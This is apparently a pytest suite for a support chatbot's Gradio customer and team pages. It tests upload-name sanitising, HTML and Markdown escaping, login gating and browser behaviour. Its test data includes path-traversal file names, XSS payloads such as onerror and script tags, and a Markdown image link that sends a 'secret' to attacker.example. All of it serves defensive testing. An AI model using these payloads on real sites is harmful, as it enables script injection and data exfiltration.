"""The two pages: formatting as plain functions, handlers without a server, then the real server
on 127.0.0.1 through gradio_client (customers at /: streaming, voice per session, feedback, and
nothing else; the team at /team: the login, sync, upload, feedback log, voices), and a real
browser (Debian chromium) on both pages."""

import html
import json
import re
import shutil
import threading
from pathlib import Path

import pytest

from bot.errors import ConfigError, RequestError
from bot.trainingdata import load_rows
from conftest import SHIPPED_KB, api_client, browser_page, free_port, last_bot_text, launched, load_tiny, write
from ui.format import (CUSTOMER_FALLBACK, WJ, chat_source, chat_text, customer_error, error_text, feedback_rows,
                       history_messages, markdown_text, sources_markdown, text_of, upload_name, voice_rows)

QUESTION = "How much is the Plus plan per month?"
TEAM = ("agent", "s3cret-pass")
EXT = [".md", ".txt", ".html", ".pdf"]


# --- plain functions ------------------------------------------------------------------------
@pytest.mark.parametrize("name, expected", [
    ("guide.md", "guide.md"),
    ("../../x.md", "x.md"),
    ("..\\..\\win.txt", "win.txt"),
    ("/etc/passwd.md", "passwd.md"),
    ("my notes (v2).md", "my notes _v2_.md"),
    ("Preis<script>.md", "Preis_script_.md"),
])
def test_upload_names_keep_only_a_safe_last_component(name, expected):
    assert upload_name(name, EXT) == expected


@pytest.mark.parametrize("name, why", [
    ("", "not a usable file name"), ("..", "not a usable file name"), (".hidden.md", "not a usable file name"),
    ("../", "not a usable file name"), ("evil.exe", "not indexed"), ("archive.md.zip", "not indexed"),
])
def test_upload_names_refused(name, why):
    with pytest.raises(RequestError, match=why):
        upload_name(name, EXT)


def test_sources_show_n_file_section_passage_and_flagged_values_escaped():
    answer = {"kind": "fallback", "flagged": ["$7.77"], "refused": False, "sources": [
        {"n": 1, "source": "plans/pricing.md", "section": "Plus", "score": 0.71, "cited": True,
         "text": "Plus costs $4.99 <script>alert(1)</script>"},
        {"n": 2, "source": "orders/returns.md", "section": "", "score": 0.4, "cited": False, "text": "60 days",
         "also_in": ["archive/returns-2025.md"]}]}
    md = sources_markdown(answer)
    assert "**[1]** `plans/pricing.md › Plus`" in md and "**cited**" in md
    assert "**[2]** `orders/returns.md` (score 0.40) · also in `archive/returns-2025.md`" in md
    assert md.count("also in") == 1
    assert "`$7.77`" in md and "Not found in the cited passages" in md
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "No passages" in sources_markdown({"sources": [], "refused": True})


@pytest.mark.parametrize("hostile", [
    "![pixel](https://attacker.example/p.png?q=secret)",
    "[click me](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "</div><script>alert(1)</script>",
    "&lt;b&gt; &#60;i&#62;",
    "[ref]: https://attacker.example/",
])
def test_chat_text_is_inert_and_reads_as_written(hostile):
    written = f"Plus costs $4.99 [1]. {hostile} (5 < 6 & 7 > 2)"
    shown = chat_text(written)
    assert not re.search(r"<[A-Za-z/!?]|&[A-Za-z#]", shown)  # no tag, no entity can start (the chat has no Markdown)
    assert shown.replace(WJ, "") == written  # what is shown and copied reads as written: [1], not &#91;1]
    assert "[1]" in shown and "5 < 6 & 7" in shown  # nothing changed that needs no change
    assert chat_source(shown) == written  # and the chain gets it back exactly


@pytest.mark.parametrize("hostile", [
    "![pixel](https://attacker.example/p.png?q=secret)", "[click me](javascript:alert(1))",
    "<img src=x onerror=alert(1)>", "[ref]: https://attacker.example/",
])
def test_markdown_panels_have_no_link_or_image_forms(hostile):
    shown = markdown_text(f"Plus costs $4.99 [1]. {hostile}")
    assert "[" not in shown and "<" not in shown  # no Markdown link/image syntax, no tag
    assert html.unescape(shown) == f"Plus costs $4.99 [1]. {hostile}"
    md = sources_markdown({"sources": [{"n": 1, "source": "a`](x)`.md", "section": "", "score": 0.5,
                                        "cited": True, "text": hostile}]})
    assert md.count("`") == 2  # a backtick in a file name cannot end the code span early
    assert "[" not in md.split("\n> ", 1)[1]  # the passage itself


def test_history_is_given_back_as_written_for_the_chain():
    shown = [{"role": "user", "content": chat_text("Is A&B <fast>? [1]")}]
    assert history_messages(shown) == [{"role": "user", "content": "Is A&B <fast>? [1]"}]


@pytest.mark.parametrize("message, hint, expected", [
    ("the message is 5,000 characters long; the limit is 4,000",
     "shorten it to the question itself (or raise chain.max_message_chars)",
     "⚠️ The message is 5,000 characters long; the limit is 4,000. Shorten it to the question itself."),
    ("the question is too long for this model's context window",
     "shorten it, or use a model with a longer context (--model.context_tokens)",
     "⚠️ The question is too long for this model's context window. Shorten it."),
    ("the message is empty", "type a question", "⚠️ The message is empty. Type a question."),
    ("retrieval.k must be at least 1", "", "⚠️ " + CUSTOMER_FALLBACK),
    ("the message is odd", "set SUPPORTBOT_CHAIN_X", "⚠️ The message is odd."),
])
def test_customer_errors_never_name_a_setting(message, hint, expected):
    shown = customer_error(RequestError(message, hint))
    assert shown == expected
    assert not re.search(r"chain\.|model\.|--|SUPPORTBOT_|\n", shown)
    assert hint.lower() in html.unescape(error_text(RequestError(message, hint))).lower()  # the team page says all


def test_feedback_and_voice_rows():
    records = [{"question": "q1", "answer": "a1", "sources": [{"source": "a.md", "section": "Plus"}],
                "adapter": "formal", "rating": "up", "time": "2026-01-01T10:00:00Z"},
               {"question": "q2 " + "x" * 500, "answer": "a2", "sources": [], "adapter": "none", "rating": "down",
                "time": "2026-01-01T11:00:00Z"}]
    rows = feedback_rows(records)
    assert rows[0][:3] == ["2026-01-01 11:00:00", "not helpful", "none"] and len(rows[0][3]) == 200
    assert rows[1] == ["2026-01-01 10:00:00", "helpful", "formal", "q1", "a1", "a.md › Plus"]
    assert feedback_rows(records, limit=1) == rows[:1]
    from bot.adapters import Adapter

    voices = voice_rows([Adapter("sunny", Path("a/sunny"), "loaded", card={"voice": "warm"}, base="tiny"),
                         Adapter("bad", Path("a/bad"), "refused", reason="holds pickle files")])
    assert voices == [["none", "built in", "the base model's plain voice", ""], ["bad", "refused", "", "holds pickle files"],
                      ["sunny", "loaded", "warm", "base tiny"]]


@pytest.mark.parametrize("host, user, refused", [
    ("127.0.0.1", "", False), ("localhost", "", False), ("::1", "", False), ("127.0.0.2", "", False),
    ("0.0.0.0", "", True), ("192.168.1.5", "", True), ("::", "", True), ("support.example.com", "", True),
    ("0.0.0.0", "agent", False),
])
def test_serving_beyond_localhost_needs_the_team_login(host, user, refused):
    from bot.config import ServeSettings

    why = ServeSettings(host=host, user=user, password=user and "pw").refusal()
    assert bool(why) == refused
    if refused:
        assert "SUPPORTBOT_SERVE_USER" in why and "SUPPORTBOT_SERVE_PASSWORD" in why and "\n" not in why


def test_cli_serve_refuses_an_open_team_page_at_once(monkeypatch, capsys, tmp_path):
    from bot.cli import main

    for name in ("SUPPORTBOT_SERVE_USER", "SUPPORTBOT_SERVE_PASSWORD", "SUPPORTBOT_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)  # no supportbot.toml
    code = main(["serve", "--host", "0.0.0.0", "--kb", str(SHIPPED_KB), "--data-dir", str(tmp_path / "d")])
    err = capsys.readouterr().err
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert err.startswith("error: serving on 0.0.0.0") and "SUPPORTBOT_SERVE_USER and SUPPORTBOT_SERVE_PASSWORD" in err
    assert not (tmp_path / "d").exists()  # refused before anything was loaded or built


def test_per_session_state_is_bounded():
    from ui.page import _Recent

    recent = _Recent(size=3)
    for i in range(10):
        recent[f"s{i}"] = i
    recent["s7"] = 70  # touched again: kept as the most recent
    assert list(recent) == ["s8", "s9", "s7"] and recent["s7"] == 70


def test_history_accepts_api_strings_and_ui_part_lists():
    history = [{"role": "user", "content": "hi"},
               {"role": "assistant", "content": [{"type": "text", "text": "Hello"}, {"type": "text", "text": "there"}]},
               {"role": "system", "content": "ignored"}]
    assert history_messages(history) == [{"role": "user", "content": "hi"},
                                         {"role": "assistant", "content": "Hello there"}]
    assert text_of(None) == "" and text_of({"text": "x"}) == "x"


# --- handlers on a real bot (tiny Llama, real voices, a copy of the shipped KB) ---------------
@pytest.fixture(scope="module")
def page(tiny_base, voices_dir, embeddings, tmp_path_factory):
    from bot.app import build_bot
    from bot.config import Settings
    from ui.page import ChatPage

    root = tmp_path_factory.mktemp("ui")
    shutil.copytree(SHIPPED_KB, root / "kb")
    settings = Settings(kb=root / "kb", data_dir=root / "data", adapters_dir=voices_dir)
    settings.model.name = str(tiny_base)
    settings.model.max_new_tokens = 12
    settings.serve.max_upload_mb = 0.01
    settings.serve.voice_choice = True  # customers choose; test_customers_get_the_teams_voice turns it off
    settings.serve.user, settings.serve.password = TEAM
    bot = build_bot(settings.validate(), embeddings, loaded=load_tiny(tiny_base))
    bot.kb.sync()
    return ChatPage(bot)


def test_respond_streams_then_shows_the_answer_and_its_sources(page):
    outputs = list(page.respond(QUESTION, [], "sunny"))
    assert len(outputs) >= 2 and outputs[0][1] == "_Answering…_"  # token updates, then the final answer
    history, sources = outputs[-1]
    assert [m["role"] for m in history] == ["user", "assistant"]
    solo = page.bot.chain.ask(QUESTION, adapter="sunny")
    assert history[-1]["content"] == chat_text(solo.text)
    assert "**[1]**" in sources and "pricing-and-plans.md" in sources


def test_customers_get_the_teams_voice_unless_they_may_choose(page, monkeypatch):
    solo = {a: page.bot.chain.ask(QUESTION, adapter=a).text for a in ("sunny", "formal")}
    assert solo["sunny"] != solo["formal"]
    monkeypatch.setattr(page.settings.serve, "voice_choice", False)
    monkeypatch.setattr(page.settings.serve, "voice", "formal")
    history, _ = list(page.respond(QUESTION, [], "sunny"))[-1]  # asked for over the API: not allowed
    assert chat_source(history[-1]["content"]) == solo["formal"]
    props = [c.get("props", {}) for c in page.create_app().get_config_file()["components"]]
    assert not [p for p in props if p.get("elem_id") == "adapter"]  # no dropdown on the page
    monkeypatch.setattr(page.settings.serve, "voice", "no-such-voice")
    with pytest.raises(ConfigError, match="serve.voice 'no-such-voice' is not a loaded voice"):
        page.check_voice()
    history, _ = list(page.respond(QUESTION, [], "sunny"))[-1]
    assert "something went wrong" in history[-1]["content"] and "no-such-voice" not in history[-1]["content"]


def test_errors_reach_the_chat_as_a_short_customer_message(page, monkeypatch):
    history, _ = list(page.respond("x" * 5000, [], "none"))[-1]
    assert history[-1]["content"] == ("⚠️ The message is 5,000 characters long; the limit is 4,000. "
                                      "Shorten it to the question itself.")  # not "raise chain.max_message_chars"
    history, _ = list(page.respond(QUESTION, [], "no-such-voice"))[-1]
    assert history[-1]["content"].startswith("⚠️ This voice is not available")

    def boom(*a, **k):
        raise RuntimeError("secret internals")
        yield
    monkeypatch.setattr(page.bot.chain, "stream", boom)
    history, _ = list(page.respond(QUESTION, [], "none"))[-1]
    assert "something went wrong" in history[-1]["content"] and "secret" not in history[-1]["content"]


def test_stop_ends_the_answer_early(page, monkeypatch):
    # checked answers come out a sentence at a time: with the check off, tokens come as they are made
    monkeypatch.setattr(page.settings.chain, "grounding", "off")
    stream = page.respond(QUESTION, [], "sunny")  # the trained voice answers in words; the untrained base may not
    next(stream)  # the first token is out
    page.stop()
    history, _ = list(stream)[-1]
    assert "(stopped)" in history[-1]["content"]


def test_feedback_appends_jsonl_that_train_accepts(page, tmp_path):
    from bot.feedback import FeedbackLog

    keep = page.feedback
    page.feedback = FeedbackLog(tmp_path / "fb.jsonl")
    try:
        list(page.respond(QUESTION, [], "formal"))
        assert "saved" in page.rate_up()
        assert "saved" in page.rate_down()
        table = page.feedback_table()
    finally:
        page.feedback = keep
    records = [json.loads(x) for x in (tmp_path / "fb.jsonl").read_text().splitlines()]
    assert [r["rating"] for r in records] == ["up", "down"]
    assert set(records[0]) == {"question", "answer", "sources", "adapter", "rating", "time"}
    assert records[0]["adapter"] == "formal" and records[0]["sources"][0]["source"]
    rows, report = load_rows(tmp_path / "fb.jsonl")
    assert len(rows) == 1 and report.filtered == 1  # only the answer rated up trains
    assert [r[1] for r in table["data"]] == ["not helpful", "helpful"]  # the team page: newest first


def test_feedback_file_survives_a_torn_last_line(tmp_path):
    from bot.feedback import FeedbackLog

    path = tmp_path / "fb.jsonl"
    path.write_text('{"question": "a", "answer": "b", "rating": "up"}\n{"question": "torn', encoding="utf-8")
    FeedbackLog(path).append("q", "a", [], "none", "up")
    lines = path.read_text().splitlines()
    assert json.loads(lines[-1])["question"] == "q" and len(lines) == 3


def test_upload_sanitises_refuses_overwrite_big_and_foreign_files_then_indexes(page, tmp_path):
    kb = page.settings.kb
    write(tmp_path / "escape.md", "# Gift wrapping\n\nGift wrapping costs $3.50 per parcel.\n")
    (tmp_path / "sub").mkdir()
    note, status, emptied = page.upload([f"{tmp_path}/sub/../escape.md"])
    assert note.startswith("Added `escape.md`") and (kb / "escape.md").is_file() and emptied is None
    assert not (kb.parent / "escape.md").exists()
    assert "escape.md" in page.bot.kb.view().sources()
    note, _, _ = page.upload([str(tmp_path / "escape.md")])
    assert "already exists" in note
    write(tmp_path / "big.md", "x" * 20_000)
    write(tmp_path / "tool.exe", "MZ")
    note, _, _ = page.upload([str(tmp_path / "big.md"), str(tmp_path / "tool.exe")])
    assert "limit is 0.01 MB" in note and "not indexed" in note
    assert not (kb / "big.md").exists() and not (kb / "tool.exe").exists()
    assert "documents" in status and "passages" in status


def test_adapter_choices_and_the_teams_voice_list(page):
    choices = dict((value, label) for label, value in page.adapter_choices())
    assert set(choices) == {"none", "sunny", "formal"}
    assert "warm and upbeat" in choices["sunny"]
    rows = {r[0]: r for r in page.voices_table()["data"]}
    assert set(rows) == {"none", "sunny", "formal"} and rows["sunny"][1] == "loaded"


# --- the real server: customers at /, the team at /team behind the login ---------------------
@pytest.fixture(scope="module")
def server(page):
    with launched(page) as url:
        yield url


def test_a_launch_beyond_localhost_without_login_is_refused(page, monkeypatch):
    monkeypatch.setattr(page.settings.serve, "user", "")
    monkeypatch.setattr(page.settings.serve, "password", "")
    with pytest.raises(ConfigError, match="SUPPORTBOT_SERVE_USER and SUPPORTBOT_SERVE_PASSWORD"):
        page.launch(host="0.0.0.0", port=free_port(), block=False)


def test_api_streams_and_keeps_each_sessions_adapter(server, page):
    solo = {a: page.bot.chain.ask(QUESTION, adapter=a).text for a in ("sunny", "formal", "none")}
    results, errors = {}, []

    def chat(adapter):
        try:
            job = api_client(server).submit(QUESTION, [], adapter, api_name="/chat")
            updates = list(job)
            results[adapter] = (len(updates), job.result()[0][-1]["content"])
        except Exception as err:  # reported below, with the adapter
            errors.append((adapter, repr(err)))

    threads = [threading.Thread(target=chat, args=(a,)) for a in solo]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not errors
    for adapter, (updates, text) in results.items():
        assert updates >= 2, "the reply should arrive in pieces"
        assert chat_source(text_of(text)) == solo[adapter], adapter


def test_customer_api_has_chat_and_feedback_only(server, page):
    import httpx

    client = api_client(server)
    assert set(client.view_api(print_info=False, return_format="dict")["named_endpoints"]) == {
        "/chat", "/stop", "/rate_up", "/rate_down"}
    for name in ("/sync", "/upload", "/feedback", "/rescan_voices"):
        with pytest.raises(ValueError):
            client.predict(api_name=name)
    up = httpx.post(server + "gradio_api/upload", files={"files": ("evil.md", b"The secret discount code is EVIL99.")})
    assert up.status_code >= 400  # Gradio's upload route takes no file from customers
    assert "Ask a question first" in client.predict(api_name="/rate_up")
    client.predict("What does the Plus plan cost?", [], "none", api_name="/chat")
    before = len(page.feedback.records())
    assert "saved" in client.predict(api_name="/rate_up")
    assert len(page.feedback.records()) == before + 1 and page.feedback.records()[-1]["rating"] == "up"


def test_team_api_refuses_without_the_login(server):
    import httpx

    team = server + "team/"
    assert httpx.get(server + "team", follow_redirects=True).status_code == 200  # the login page itself
    for method, path in [("GET", "config"), ("GET", "gradio_api/info"), ("POST", "gradio_api/call/sync"),
                         ("POST", "gradio_api/queue/join"), ("POST", "gradio_api/upload")]:
        response = httpx.request(method, team + path, json={"data": [], "fn_index": 0, "session_hash": "x"})
        assert response.status_code in (401, 403), (path, response.status_code)
    with pytest.raises(Exception, match="credentials were not provided"):
        api_client(team).predict(api_name="/sync")
    with pytest.raises(Exception, match="Could not login"):
        api_client(team, auth=("agent", "wrong")).predict(api_name="/sync")


def test_team_api_sync_upload_feedback_voices(server, page, tmp_path):
    from gradio_client import handle_file

    client = api_client(server + "team/", auth=TEAM)
    assert "passages" in client.predict(api_name="/sync")
    write(tmp_path / "warranty-extension.md", "# Extended care\n\nExtended care costs $19 per year.\n")
    note, status, emptied = client.predict([handle_file(str(tmp_path / "warranty-extension.md"))], api_name="/upload")
    assert note.startswith("Added") and "warranty-extension.md" in page.bot.kb.view().sources() and not emptied
    assert client.predict(api_name="/feedback")["headers"][:2] == ["time (UTC)", "rating"]
    assert {r[0] for r in client.predict(api_name="/rescan_voices")["data"]} == {"none", "sunny", "formal"}


# --- a real browser: Debian chromium driven by Playwright ---------------------------------
def _copied(pg, button) -> str:
    """What a click on `button` put on the clipboard."""
    pg.evaluate("() => { window.__copied = null; navigator.clipboard.writeText = async (t) => { window.__copied = t; }; }")
    button.click(force=True)
    pg.wait_for_function("() => window.__copied !== null", timeout=10_000)
    return pg.evaluate("window.__copied")


@pytest.mark.slow
def test_browser_customer_chat_copy_voice_switch_and_no_script_runs(server, page, tmp_path):
    solo = {a: page.bot.chain.ask(QUESTION, adapter=a).text for a in ("none", "formal")}
    with browser_page(server) as pg:
        box = pg.locator("#message textarea")
        box.wait_for(timeout=30_000)
        assert pg.locator("input[type=password]").count() == 0  # customers never log in
        assert pg.locator("#sync, #upload, #kb-status, input[type=file]").count() == 0  # nor change the knowledge base
        assert "Knowledge base" not in pg.locator("body").inner_text()
        box.fill(QUESTION)
        box.press("Enter")
        first = last_bot_text(pg, 1)
        assert first.strip() == solo["none"].strip()
        assert "[1]" in pg.locator("#sources").inner_text()
        pg.locator("#adapter input").click()
        pg.get_by_role("option", name="formal").first.click()
        box.fill(QUESTION)
        box.press("Enter")
        second = last_bot_text(pg, 2)
        assert second.strip() == solo["formal"].strip() and second != first
        typed = 'See [1] & ![x](https://attacker.example/p.png), A&B: <img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
        box.fill(typed)
        box.press("Enter")
        last_bot_text(pg, 3)
        assert pg.evaluate("window.__xss") is None  # shown as text, never run
        user = pg.locator('[data-testid="user"]').nth(2)
        try:  # the markup is text in the user's bubble (textContent: innerText is '' while off screen)
            pg.wait_for_function(
                "() => { const u = document.querySelectorAll('[data-testid=\"user\"]');"
                " return u.length > 2 && u[2].textContent.includes('img src=x'); }", timeout=30_000)
        except Exception:
            pg.screenshot(path=str(tmp_path / "failed.png"), full_page=True)
            pytest.fail(f"user bubbles: {pg.locator('[data-testid=user]').all_text_contents()!r}")
        assert user.text_content().replace(WJ, "").strip() == typed  # shown as typed: no entity, no Markdown
        assert pg.locator("#chat img[src*='attacker'], #chat a[href*='attacker']").count() == 0
        # the copy buttons (one per message: user, bot, user, bot...) copy the text as shown: "[1]", not "&#91;1]"
        copy = pg.locator('#chat button[aria-label="Copy message"]')
        copied = _copied(pg, copy.nth(4))
        assert copied.replace(WJ, "") == typed and "&#" not in copied
        bot_copy = _copied(pg, copy.nth(3))
        assert bot_copy == solo["formal"] == pg.locator('[data-testid="bot"]').nth(1).text_content()
        shot = tmp_path / "chat-page.png"
        pg.screenshot(path=str(shot), full_page=True)
        assert shot.stat().st_size > 10_000


@pytest.mark.slow
def test_browser_team_page_login_upload_feedback_voices(server, page, tmp_path):
    page.feedback.append('<img src=x onerror="window.__xss=7"> [a](javascript:1)', "answer", [], "none", "down")
    write(tmp_path / "first.md", "# First\n\nThe first upload.\n")
    write(tmp_path / "second.md", "# Second\n\nThe second upload.\n")
    with browser_page(server + "team") as pg:
        pg.locator("input[type=password]").wait_for(timeout=30_000)
        assert pg.locator("#sync, #upload").count() == 0  # nothing before the login
        pg.locator("input").first.fill(TEAM[0])
        pg.locator("input[type=password]").fill("wrong")
        pg.get_by_role("button", name="Login").click()
        pg.get_by_text("Incorrect").first.wait_for(timeout=15_000)
        assert pg.locator("#sync").count() == 0
        pg.locator("input").first.fill(TEAM[0])
        pg.locator("input[type=password]").fill(TEAM[1])
        pg.get_by_role("button", name="Login").click()
        pg.locator("#sync").wait_for(timeout=30_000)
        assert "passages" in pg.locator("#kb-status").inner_text()
        note = pg.locator("#upload-note")
        for name in ("first.md", "second.md"):
            pg.locator("#upload input[type=file]").set_input_files(str(tmp_path / name))
            pg.wait_for_function(f"() => document.querySelector('#upload-note').innerText.includes('{name}')",
                                 timeout=60_000)
            assert "already exists" not in note.inner_text()  # the earlier file is not reported again
        assert note.inner_text().strip().startswith("Added second.md") and "first.md" not in note.inner_text()
        assert {"first.md", "second.md"} <= set(page.bot.kb.view().sources())
        voices = pg.locator("#voices").inner_text()
        assert "sunny" in voices and "formal" in voices and "loaded" in voices
        pg.locator("#refresh").click()
        pg.wait_for_function("() => document.querySelector('#feedback').textContent.includes('img src=x')",
                             timeout=30_000)
        assert pg.evaluate("window.__xss") is None and pg.locator("#feedback img, #feedback a").count() == 0
        pg.screenshot(path=str(tmp_path / "team-page.png"), full_page=True)
